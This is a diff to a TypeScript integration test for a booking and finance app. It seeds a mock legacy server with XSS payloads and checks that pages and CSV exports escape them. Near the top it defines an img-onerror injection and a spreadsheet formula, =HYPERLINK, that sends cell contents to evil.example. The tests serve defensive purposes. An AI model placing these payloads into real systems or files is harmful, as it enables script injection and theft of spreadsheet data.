@@ -7,6 +7,8 @@ import { type LegacyServer, startLegacyServer } from '../../../support/server/le
 import { type OperatorWorld, openOperatorWorld } from '../../../support/world/operator.ts'
 
 const script = '<script>alert(1)</script>'
+const image = '"><img src=x onerror=alert(1)>'
+const formula = '=HYPERLINK("http://evil.example/?"&A1;"Clique")'
 const shownScript = '&lt;script&gt;alert(1)&lt;/script&gt;'
 const path = '/configurations/integrations'
 
@@ -21,7 +23,37 @@ beforeAll(async () => {
   legacy.rows['/products/index'] = [{ Product: { id: 1, nome: `Gruta ${script}` } }]
   legacy.rows['/clients/index'] = [
     { Client: { id: 1, nome: `Zuleica ${script}`, telefone: '75999990001' } },
-    { Client: { id: 2, nome: 'Sem Contato' } }
+    { Client: { id: 2, nome: 'Sem Contato' } },
+    { Client: { id: 3, nome: image, telefone: '75999990002', cidade: image, observacoes: image } },
+    { Client: { id: 4, nome: formula, telefone: '75999990003', email: 'f@example.com' } }
+  ]
+  legacy.rows['/agents/index'] = [{ Agent: { id: 1, nome: image, sobre: image } }, { Agent: { id: 2, nome: formula } }]
+  legacy.rows['/products/index']?.push({ Product: { id: 2, nome: image, descricao: image, endereco: formula } })
+  const visit = {
+    product_id: 2,
+    status: 'PAGO',
+    sdate: '05/03/2024',
+    created: '2024-03-01',
+    pessoas: 1,
+    valor: '80,00'
+  }
+  legacy.rows['/bills/index'] = [
+    { Bill: { id: 1, nome: image, telefone: '75999990002', booking_code: 'ANT1', ...visit } },
+    { Bill: { id: 2, nome: formula, telefone: '75999990003', booking_code: '=1+1', ...visit } },
+    { Bill: { id: formula, nome: image, ...visit, status: image, sdate: formula } }
+  ]
+  const spent = {
+    data: '10/03/2024',
+    valor: '9,00',
+    tipo: 'saida',
+    fornecedor: formula,
+    categoria: image,
+    status: 'PAGO'
+  }
+  legacy.rows['/transactions/index'] = [
+    { Transaction: { id: 1, descricao: image, ...spent } },
+    { Transaction: { id: 2, descricao: formula, ...spent, tipo: image } },
+    { Transaction: { id: 3, descricao: formula, ...spent } }
   ]
   vendor = createServer((_request, response) => {
     response.end(JSON.stringify([{ id: 1, nome: `Mirante ${script}`, lat: '-12,5', lng: '-41,4' }]))
@@ -48,6 +80,7 @@ afterAll(async () => {
 /** Nothing that another program said is markup, and none of the settings' secrets is shown. */
 function requirePlain(html: string) {
   expect(html).not.toContain('<script>alert')
+  expect(html).not.toContain('<img src=x')
   expect(html).not.toMatch(/senha-do-|chave-do-vendedor|tok-1/)
 }
 
@@ -104,5 +137,55 @@ describe('integrations', { shuffle: false }, () => {
     expect(clients.html).toContain(`Zuleica ${shownScript}`)
     for (const { html } of [page, clients, await manager.get('/products/index')]) requirePlain(html)
     expect(world.app.output()).not.toMatch(/senha-do-|Zuleica/)
+  }, 60_000)
+
+  it('show as text, on every page and in every file, whatever the legacy server called its people', async () => {
+    const period = 'inicio=2024-03-01&fim=2024-03-31'
+    const lists = [
+      ...[
+        '/clients/index?q=HYPERLINK',
+        '/clients/index?q=onerror',
+        '/agents/index',
+        '/agents/unguided',
+        '/products/index'
+      ],
+      ...[
+        '/operation/booking-list?inicio=2024-03-05',
+        '/operation/index/2024-03-05',
+        '/operation/index/2024-03-05/sheet'
+      ],
+      ...[`/financial/index?${period}`, `/financial/cash-flow?${period}`],
+      ...[`/reports/sales?${period}`, `/reports/visits?${period}`, '/configurations/audit', '/clients/duplicates'],
+      ...['/financial/close/2024-03-05/sheet', '/messages/new', `${path}/import`]
+    ]
+    const one =
+      /^\/(?:clients|agents|products|operation\/booking-list|financial\/transactions)\/[0-9a-f-]{1,36}(?:\/edit)?$/
+    const seen = new Map<string, string>()
+    for (const to of lists) {
+      const { status, links, html } = await manager.get(to)
+      expect([to, status]).toEqual([to, 200])
+      seen.set(to, html)
+      if (html.includes('onerror=alert') || html.includes('HYPERLINK'))
+        for (const link of links.filter((link) => one.test(link)).slice(0, 8))
+          if (!seen.has(link)) seen.set(link, (await manager.get(link)).html)
+    }
+    for (const [to, html] of seen) expect([to, html.includes('<img src=x')]).toEqual([to, false])
+    const showing = [...seen.values()].filter((html) => html.includes('&lt;img src=x') || html.includes('HYPERLINK'))
+    expect(showing.length).toBeGreaterThan(10)
+    const reports = (await manager.get(`${path}/import`)).links.filter((to) => to.startsWith(`${path}/import.csv`))
+    expect(reports.length).toBeGreaterThan(0)
+    const files = [
+      ...reports,
+      ...['/clients/index.csv', '/agents/index.csv', '/products/index.csv', '/operation/index/2024-03-05/sheet.csv'],
+      ...[`/financial/index.csv?${period}`, `/reports/sales.csv?${period}`, `/financial/close/2024-03-05/sheet.csv`]
+    ]
+    const cells: string[] = []
+    for (const to of files) {
+      const { status, html } = await manager.get(to)
+      expect([to, status]).toEqual([to, 200])
+      cells.push(...(html.match(/(?:^|;)"?[^;"\n]*HYPERLINK/gm) ?? []))
+    }
+    expect(cells.length).toBeGreaterThan(3)
+    for (const cell of cells) expect(cell).not.toMatch(/^;?"?\s*=/)
   }, 60_000)
 })
